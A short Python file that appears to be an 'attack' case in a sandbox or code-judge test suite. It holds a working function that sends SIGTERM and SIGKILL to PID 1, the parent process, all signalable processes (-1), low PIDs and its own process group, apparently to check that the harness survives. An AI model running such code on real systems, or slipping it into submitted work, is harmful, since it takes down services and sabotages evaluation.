# attack: kills all processes it can name: all, the first, its parent, its group and its session
# shape: action
# causes: SIGNALED, WRONG_ANSWER, EXITED_EARLY
import os
import signal


def attack() -> None:
    for number in (signal.SIGTERM, signal.SIGKILL):
        for pid in (1, os.getppid(), -1, *range(2, 64), 0):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
        try:
            os.killpg(os.getpgrp(), number)
        except OSError:
            pass
